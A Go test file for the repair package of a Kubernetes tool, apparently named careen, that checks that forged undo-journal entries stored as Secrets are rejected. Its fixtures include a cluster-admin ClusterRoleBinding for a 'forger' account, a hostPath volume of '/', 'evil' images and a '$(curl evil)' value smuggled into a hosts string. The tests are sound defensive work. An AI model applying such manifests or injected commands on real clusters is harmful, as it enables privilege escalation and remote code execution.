package repair

import (
	"errors"
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/careen-tui/careen/internal/model"
)

// plant leaves an entry in the cluster as a stranger would, who knows how entries are
// written: its Secrets fit their names, and nobody signed them.
func plant(t *testing.T, m *Mender, e *Entry) *Entry {
	t.Helper()
	all, err := e.pack()
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range all.payloads {
		s := e.secret(p, 1, 1, p.bytes)
		if s.Labels[roleLabel] == headRole {
			s.Labels[stateLabel] = string(Applied)
		}
		if _, err := m.kube.CoreV1().Secrets(p.namespace).Create(t.Context(), s, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	return e
}

func resourceOf(kind model.Kind) schema.GroupVersionResource {
	info, _ := model.Info(kind)
	return schema.GroupVersionResource{Group: info.Group, Version: info.Version, Resource: info.Resource}
}

// deleted is a write that says that a fix deleted an object, so that its undo creates it.
func deleted(t *testing.T, by, text string) *Write {
	t.Helper()
	u := parsed(t, text)
	kind := model.Kind(u.GetKind())
	return &Write{
		Step: 1, By: []string{by}, Verb: Delete, Resource: resourceOf(kind), Before: u,
		Ref: model.Ref{Kind: kind, Namespace: u.GetNamespace(), Name: u.GetName()},
	}
}

func edited(t *testing.T, by, before, after string) *Write {
	t.Helper()
	w := deleted(t, by, before)
	w.Verb, w.After = Patch, parsed(t, after)
	return w
}

const (
	binding  = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: evil}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: ServiceAccount, namespace: shop, name: forger}]\n"
	someRole = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: viewer, uid: u-role}\nrules: [{apiGroups: [''], resources: [secrets], verbs: [%s]}]\n"
	hookJob  = "apiVersion: batch/v1\nkind: Job\nmetadata: {name: hook, namespace: shop, annotations: {helm.sh/hook: post-delete}}\nspec: {template: {spec: {containers: [{name: a, image: evil}]}}}\n"
	somePod  = "apiVersion: v1\nkind: Pod\nmetadata: {name: evil, namespace: shop}\nspec: {containers: [{name: a, image: evil}]}\n"
	hostPath = "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: evil}\nspec: {hostPath: {path: /}}\n"
)

// TestForgedEntries plants entries that careen would never have written. Each is
// listed with what is wrong with it, never the default, and neither taken back nor
// finished, whatever is typed.
func TestForgedEntries(t *testing.T) {
	secret := func() *Write { return entryOfTwo("value").Writes[0] }
	with := func(w *Write) func(*Entry) { return func(e *Entry) { e.Writes = []*Write{w} } }
	on := func(change func(*Write)) func(*Entry) {
		return func(e *Entry) { w := secret(); change(w); e.Writes = []*Write{w} }
	}
	role := func(verbs string) string { return strings.Replace(someRole, "%s", verbs, 1) }
	for name, c := range map[string]struct {
		change func(*Entry)
		want   string
	}{
		"a binding behind the name of a volume": {func(e *Entry) {
			w := deleted(t, "Delete", binding)
			w.Ref.Kind = model.KindVolume
			e.At, e.Writes = moment.Add(100*time.Hour), []*Write{w}
		}, "do not agree"},
		"a binding": {with(deleted(t, "Delete", binding)), "may not delete ClusterRoleBinding"},
		"a binding that a release declared": {func(e *Entry) {
			w := deleted(t, "CreateFromRelease", binding)
			w.Verb, w.After, w.Before, e.UndoOf = Create, w.Before, nil, ""
			e.Writes = []*Write{w}
		}, "may not create ClusterRoleBinding"},
		"another resource":               {on(func(w *Write) { w.Resource = resourceOf(model.KindClusterRoleBinding) }), "do not agree"},
		"another group":                  {on(func(w *Write) { w.Resource.Group = "evil.example.com" }), "do not agree"},
		"a subresource":                  {on(func(w *Write) { w.Resource.Resource = "secrets/status" }), "do not agree"},
		"a name that is a path":          {on(func(w *Write) { w.Ref.Name = "made/status"; w.After.SetName("made/status") }), "do not agree"},
		"a name that climbs":             {on(func(w *Write) { w.Ref.Name = ".."; w.After.SetName("..") }), "do not agree"},
		"another kind in the object":     {on(func(w *Write) { w.After.SetKind("Role") }), "do not agree"},
		"another version in the object":  {on(func(w *Write) { w.After.SetAPIVersion("v1beta1") }), "do not agree"},
		"another group in the object":    {on(func(w *Write) { w.After.SetAPIVersion("evil.example.com/v1") }), "do not agree"},
		"another name in the object":     {on(func(w *Write) { w.After.SetName("other") }), "do not agree"},
		"a name that the server makes":   {on(func(w *Write) { w.After.SetGenerateName("x-") }), "do not agree"},
		"a list":                         {on(func(w *Write) { w.After.Object["items"] = []any{map[string]any{"kind": "Secret"}} }), "do not agree"},
		"a namespaced object in none":    {on(func(w *Write) { w.Ref.Namespace = ""; w.After.SetNamespace("") }), "do not agree"},
		"a namespace of another object":  {on(func(w *Write) { w.After.SetNamespace("kube-system") }), "do not agree"},
		"a namespace that it is not in":  {func(e *Entry) { e.Namespace = "kube-system" }, "not what was written"},
		"no writes":                      {func(e *Entry) { e.Writes = nil }, "not what was written"},
		"a create of nothing":            {on(func(w *Write) { w.After = nil }), "do not agree"},
		"a delete of nothing":            {on(func(w *Write) { w.Verb, w.After = Delete, nil }), "do not agree"},
		"a verb of its own":              {on(func(w *Write) { w.Verb = "exec" }), "do not agree"},
		"no type of change":              {on(func(w *Write) { w.By = nil }), "nothing may not create"},
		"a type of change of its own":    {on(func(w *Write) { w.By = []string{"Exec"} }), "Exec may not create"},
		"a type that does other things":  {on(func(w *Write) { w.By = []string{"Restart"} }), "Restart may not create"},
		"a write that waits for a later": {on(func(w *Write) { w.DependsOn = 1 }), "not what was written"},
		"a wait without an end":          {on(func(w *Write) { w.Wait.Within = 1000 * time.Hour }), "not what was written"},
		"a wait for what does not exist": {on(func(w *Write) { w.Wait.For = "ever" }), "not what was written"},
		"a Job like a hook's":            {with(deleted(t, "Delete", hookJob)), "may not delete Job"},
		"a pod":                          {with(deleted(t, "Delete", somePod)), "may not delete Pod"},
		"more verbs than a rule had":     {with(edited(t, "AddRule", role("get, '*'"), role("get"))), "AddRule may not change rules"},
		"any verb":                       {with(edited(t, "AddRule", role("get"), role("get, '*'"))), "AddRule may not change rules"},
		"another resource of a rule":     {with(edited(t, "AddRule", role("get"), strings.Replace(role("get"), "secrets", "pods", 1))), "AddRule may not change rules"},
		"an image":                       {with(edited(t, "Patch", deployment, strings.Replace(deployment, "web:1", "evil:1", 1))), "Patch may not change spec.template.spec.containers[0].image"},
		"a program among the hosts": {with(edited(t, "RewriteHosts",
			strings.Replace(deployment, "db-0.db:5432,db-1.db:5432", "db-0.db:5432 $(curl evil)", 1), deployment)), "RewriteHosts may not change"},
		"a volume's policy to Delete": {with(edited(t, "Patch", strings.Split(claimAndVolume, "---\n")[1],
			strings.Replace(strings.Split(claimAndVolume, "---\n")[1], "Policy: Delete", "Policy: Recycle", 1))), "Patch may not change"},
		"owners besides labels":                     {with(edited(t, "Patch", claimAndVolume, strings.Replace(claimAndVolume, "uid: u-claim,", "uid: u-claim, ownerReferences: [{kind: Pod, name: p, apiVersion: v1, uid: x}],", 1))), "Patch may not change metadata.ownerReferences"},
		"a rollback of nothing":                     {with(&Write{By: []string{"Rollback"}, Verb: Rollback, Ref: webRelease, Resource: secretsResource}), "do not agree"},
		"a rollback of no release":                  {with(&Write{By: []string{"Rollback"}, Verb: Rollback, Ref: ref(model.KindRole, "web"), Resource: secretsResource, Revision: 1, Newest: 2}), "do not agree"},
		"a rollback from other kinds":               {with(&Write{By: []string{"Rollback"}, Verb: Rollback, Ref: webRelease, Resource: resourceOf(model.KindRole), Revision: 1, Newest: 2}), "do not agree"},
		"an uninstall that is said to be a restart": {with(&Write{By: []string{"Restart"}, Verb: Uninstall, Ref: webRelease, Resource: secretsResource, Revision: 1, Newest: 2}), "Restart may not uninstall"},
		"another release than its finding's": {func(e *Entry) {
			e.Findings = append(e.Findings, "release-stuck:shop/Release/other")
			e.Writes = []*Write{{By: []string{"Rollback"}, Verb: Rollback, Ref: webRelease, Resource: secretsResource, Revision: 1, Newest: 2}}
		}, "another release"},
		"an undo of what is no entry": {func(e *Entry) { e.UndoOf = "../x" }, "not what was written"},
		"a create as an undo's":       {func(e *Entry) { e.UndoOf = "0123456789ab" }, "may not create"},
		"the date of tomorrow":        {func(e *Entry) { e.At = moment.Add(24 * time.Hour) }, "dated in the future"},
	} {
		t.Run(name, func(t *testing.T) {
			m := unit(t)
			e := entryOfTwo("value")
			e.Writes = e.Writes[:1]
			c.change(e)
			if e.Namespace != "shop" {
				e.Namespace = "shop"
				all, err := e.pack()
				if err != nil {
					t.Fatal(err)
				}
				all.payloads[0].namespace = "kube-system" // where its Secret is put, though it says shop
				if _, err := m.kube.CoreV1().Secrets("kube-system").Create(t.Context(), e.secret(all.payloads[0], 1, 1, all.payloads[0].bytes), metav1.CreateOptions{}); err != nil {
					t.Fatal(err)
				}
			} else {
				plant(t, m, e)
			}
			got, err := m.Entry(t.Context(), e.ID)
			if err != nil || !strings.Contains(got.Problem, c.want) {
				t.Fatalf("%v; its problem is %q", err, got.Problem)
			}
			refusedWhole(t, m, e.ID)
		})
	}
}

// refusedWhole wants an entry to be of no use: not by default, not by name, and not to be
// finished, and nothing written.
func refusedWhole(t *testing.T, m *Mender, id string) {
	t.Helper()
	var refusal *Refusal
	if _, err := m.UndoPlan(t.Context(), ""); err == nil {
		t.Error("it is taken back by default")
	}
	if _, err := m.UndoPlan(t.Context(), id); !errors.As(err, &refusal) {
		t.Errorf("undo: %v", err)
	}
	if _, err := m.FinishPlan(t.Context(), nil, id); !errors.As(err, &refusal) {
		t.Errorf("finish: %v", err)
	}
}

// TestNothingOfAStrangersNamespaceReachesAnother plants what a stranger may write in one
// namespace, on objects of another.
func TestNothingOfAStrangersNamespaceReachesAnother(t *testing.T) {
	m := unit(t)
	e := entryOfTwo("value")
	e.Writes = e.Writes[1:] // of depot
	all, err := e.pack()
	if err != nil {
		t.Fatal(err)
	}
	if len(all.payloads) != 2 {
		t.Fatalf("%d payloads", len(all.payloads))
	}
	// With its write in the head, and no Secret in depot.
	stray := *e
	stray.Shards = nil
	b, err := compress(stray)
	if err != nil {
		t.Fatal(err)
	}
	stray.ID = digest(b)[:idLength]
	if _, err := m.kube.CoreV1().Secrets("shop").Create(t.Context(), stray.secret(payload{"shop", headRole, b}, 1, 1, b), metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	got, err := m.Entry(t.Context(), stray.ID)
	if err != nil || !strings.Contains(got.Problem, "speaks of namespace") {
		t.Errorf("%v %+v", err, got)
	}
	refusedWhole(t, m, stray.ID)
	// With a Secret of depot that holds what is of shop.
	u := secretObject("kube-system", "made", "value")
	e.Writes[0].After, e.Writes[0].Ref.Namespace = u, "kube-system"
	if err := e.Writes[0].agrees(); err != nil {
		t.Fatal(err)
	}
	part, err := compress([]numbered{{1, e.Writes[0]}})
	if err != nil {
		t.Fatal(err)
	}
	head := *e
	head.Writes, head.Shards = []*Write{nil}, []shard{{"depot", digest(part), 1}}
	if b, err = compress(head); err != nil {
		t.Fatal(err)
	}
	head.ID = digest(b)[:idLength]
	for _, p := range []payload{{"depot", shardRole, part}, {"shop", headRole, b}} {
		if _, err := m.kube.CoreV1().Secrets(p.namespace).Create(t.Context(), head.secret(p, 1, 1, p.bytes), metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	if got, err = m.Entry(t.Context(), head.ID); err != nil || got.Problem == "" {
		t.Errorf("%v %+v", err, got)
	}
}
